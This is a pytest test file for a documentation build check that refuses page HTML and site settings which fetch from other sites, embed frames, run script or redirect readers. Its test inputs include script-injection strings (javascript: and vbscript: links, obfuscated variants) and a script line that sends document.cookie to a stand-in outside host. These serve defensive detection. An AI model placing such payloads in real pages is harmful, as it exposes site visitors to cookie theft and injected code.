"""Nothing foreign without a word (issue 18, item 5): settings and page content that would
make the reader's browser fetch from another site, show another page inside this one, run
code or move on by itself are refused at build with one line saying what to do instead
(``macros/foreign.py``); links to other sites stay free. Under the current ENGINE.

The page checks run on hand-made HTML (each case a few characters); two builds of a copy
show the line a clinic or an editor gets: at the Markdown file and line when the text is
in it, at the built page when a macro made it.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from macros.foreign import ForeignError, check_settings, foreign, page_problems
from tests.harness import copy_project, run_check
from tests.test_safety_layer import _fails_with_one_line, _lesson

OWN = "https://clinic.example/help/"
EMBED = "shows another page inside this one; remove it and link to the page instead"
FETCH = "makes the reader's browser fetch {} from another site; save the file under "
CODE = "a javascript: address, which runs code when used; remove it"
REFRESH = '<meta http-equiv="refresh"> sends the reader to another page without a choice'


def _article(body: str) -> str:
    return f"<html><head></head><body><article>{body}</article></body></html>"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ('<iframe src="https://video.example/embed/1"></iframe>', "<iframe> " + EMBED),
        ("<IFRAME SRC=page.html></IFRAME>", "<iframe> " + EMBED),
        ('<object data="https://x.example/a.swf"></object>', "<object> " + EMBED),
        ('<embed src="https://x.example/a.pdf">', "<embed> " + EMBED),
        ('<frame src="a.html">', "<frame> " + EMBED),
        ('<meta http-equiv="refresh" content="0;url=https://x.example/">', REFRESH),
        ("<meta http-equiv=REFRESH content=0>", REFRESH),
        ("<meta HTTP-EQUIV=' Refresh ' content=5>", REFRESH),
        ('<a href="javascript:alert(1)">Tap</a>', CODE),
        ('<a href="JavaScript:void(0)">Tap</a>', CODE),
        ('<a href="java&#9;script:alert(1)">Tap</a>', CODE),
        ('<a href="&#106;avascript:alert(1)">Tap</a>', CODE),
        ('<a href=" javascript:alert(1)">Tap</a>', CODE),
        ('<a href="vbscript:msgbox(1)">Tap</a>', CODE),
        ('<form action="javascript:go()"></form>', CODE),
        ('<img src="https://cdn.example/a.png" alt="">', FETCH.format("https://cdn.example/a.png")),
        ('<img src="//cdn.example/a.png" alt="">', FETCH.format("//cdn.example/a.png")),
        ('<img src="HTTP://cdn.example/a.png" alt="">', FETCH.format("HTTP://cdn.example/a.png")),
        ('<img src="a.png" srcset="a.png 1x, https://t.example/b.png 2x" alt="">',
         FETCH.format("https://t.example/b.png")),
        ('<video poster="https://t.example/p.jpg"></video>', FETCH.format("https://t.example/p.jpg")),
        ('<audio><source src="https://t.example/a.mp3"></audio>',
         FETCH.format("https://t.example/a.mp3")),
        ('<script src="https://stats.example/track.js"></script>',
         FETCH.format("https://stats.example/track.js")),
        ('<link rel="stylesheet" href="https://cdn.example/x.css">',
         FETCH.format("https://cdn.example/x.css")),
        ('<link rel="preconnect" href="https://fonts.gstatic.com">',
         FETCH.format("https://fonts.gstatic.com")),
        ('<link rel="dns-prefetch" href="//stats.example">', FETCH.format("//stats.example")),
        ('<link rel="shortcut icon" href="https://x.example/f.ico">',
         FETCH.format("https://x.example/f.ico")),
        ('<img src="https://clinic.example.evil/a.png" alt="">',
         FETCH.format("https://clinic.example.evil/a.png")),
        ('<form action="https://forms.example/send"><input></form>',
         "a form that sends what the reader types to another site; remove it"),
        ("<script>fetch('https://x.example/?q=' + document.cookie)</script>",
         "a <script> written in the page; the site runs only its own script files"),
        ("<style>body { background: url(https://x.example/a.png) }</style>",
         "a <style> written in the page, which the site's Content-Security-Policy blocks"),
    ],
)  # fmt: skip
def test_a_page_that_loads_embeds_runs_or_moves_on_is_refused(body: str, expected: str) -> None:
    problems = page_problems(_article(body), OWN)
    assert len(problems) == 1, problems
    assert problems[0].words.startswith(expected), problems[0].words


@pytest.mark.parametrize(
    "body",
    [
        '<a href="https://www.988lifeline.org/">988 Lifeline</a>',  # links stay free
        '<a href="tel:988">Call</a> <a href="sms:741741">Text</a>',
        '<a href="mailto:help@clinic.example">Email us</a>',
        '<img src="../assets/images/a.svg" alt="">',
        '<img src="/help/assets/a.png" alt="">',
        '<img src="https://clinic.example/help/assets/a.png" alt="">',  # the site's own address
        '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">',
        '<link rel="canonical" href="https://elsewhere.example/page/">',
        '<link rel="alternate" hreflang="es" href="https://elsewhere.example/es/">',
        "<p>Write &lt;iframe&gt; or javascript: in a sentence, as words.</p>",
        '<a href="?q=javascript:">search</a>',
        '<form class="md-search__form" name="search"><input type="text"></form>',
    ],
)
def test_links_own_files_and_words_are_not_refused(body: str) -> None:
    assert page_problems(_article(body), OWN) == []


def test_the_theme_s_own_inline_script_outside_the_article_is_not_refused() -> None:
    page = "<html><head><script>var x = 1</script></head><body><article></article></body>"
    assert page_problems(page, OWN) == []


@pytest.mark.parametrize(
    ("address", "own", "expected"),
    [
        ("https://a.example/x", "", True),
        ("//a.example/x", "https://a.example/", False),
        ("http://a.example/x", "https://a.example/", True),
        ("x/y.png", "", False),
        ("data:image/png;base64,AA", "", False),
        ("ftp://a.example/x", "", True),
    ],
)
def test_which_addresses_are_another_site(address: str, own: str, expected: bool) -> None:
    assert foreign(address, own) is expected


@pytest.mark.parametrize(
    ("data", "lines", "expected"),
    [
        (
            {"theme": {"font": {"text": "Roboto"}}},
            {"theme.font": 34},
            "a.yml: theme.font: makes every page fetch its fonts from Google's servers",
        ),
        ({"theme": {"font": "Roboto"}}, {}, "a.yml: theme.font: makes every page fetch"),
        (
            {"extra_javascript": ["assets/a.js", "https://www.googletagmanager.com/gtag/js"]},
            {"extra_javascript[1]": 72},
            "a.yml: extra_javascript: makes the reader's browser fetch "
            "https://www.googletagmanager.com/gtag/js from another site; save the file under "
            "docs/assets/ and use its path (line 72)",
        ),
        (
            {"extra_javascript": [{"path": "//stats.example/s.js", "defer": True}]},
            {},
            "a.yml: extra_javascript: makes the reader's browser fetch //stats.example/s.js",
        ),
        (
            {"extra_css": ["https://cdn.example/brand.css"]},
            {},
            "a.yml: extra_css: makes the reader's browser fetch https://cdn.example/brand.css",
        ),
        (
            {"theme": {"logo": "https://brand.example/logo.png"}},
            {},
            "a.yml: theme.logo: makes the reader's browser fetch https://brand.example/logo.png",
        ),
        (
            {"theme": {"favicon": "https://brand.example/f.ico"}},
            {},
            "a.yml: theme.favicon: makes the reader's browser fetch https://brand.example/f.ico",
        ),
    ],
)
def test_settings_that_load_from_another_site_are_refused(
    data: dict[str, Any], lines: dict[str, int], expected: str
) -> None:
    with pytest.raises(ForeignError) as refused:
        check_settings(data, lines, "a.yml")
    assert str(refused.value).startswith(expected), refused.value
    assert "\n" not in str(refused.value)


def test_own_fonts_files_and_the_site_s_address_are_fine() -> None:
    check_settings(
        {
            "site_url": OWN,
            "theme": {"font": False, "logo": "assets/logo.svg", "favicon": OWN + "f.png"},
            "extra_css": ["assets/a.css"],
            "extra_javascript": [{"path": "assets/a.js"}, OWN + "b.js"],
        },
        {},
        "a.yml",
    )


def test_a_font_in_the_config_is_refused_by_the_settings_check(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    assert "\n  font: false" in text, "the copy's theme has no font: false line"
    config.write_text(text.replace("\n  font: false", "\n  font:\n    text: Roboto", 1))
    line = 1 + text[: text.index("\n  font: false") + 1].count("\n")
    proc = run_check(project)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert proc.stderr.startswith("mkdocs.yml: theme.font: "), proc.stderr
    assert proc.stderr.endswith(f"extra_css (line {line})\n"), proc.stderr


def test_an_iframe_in_a_lesson_stops_the_build_at_its_file_and_line(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    page = _lesson(project)
    path = project / "docs" / page
    text = path.read_text(encoding="utf-8")
    path.write_text(text + '\n<iframe src="https://video.example/embed/1"></iframe>\n')
    line = text.count("\n") + 2
    _fails_with_one_line(project, tmp_path, f"docs/{page} (line {line}): <iframe> {EMBED}")


def test_a_script_a_macro_writes_stops_the_build_at_its_page(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    page = _lesson(project)
    path = project / "docs" / page
    path.write_text(
        path.read_text(encoding="utf-8") + '\n{{ "<scr" ~ "ipt>alert(1)</scr" ~ "ipt>" }}\n'
    )
    built = f"{page.removesuffix('.md')}/index.html"
    found = _fails_with_one_line(project, tmp_path, "a <script> written in the page")
    assert built in found and f"docs/{page}, its macros or a template" in found, found
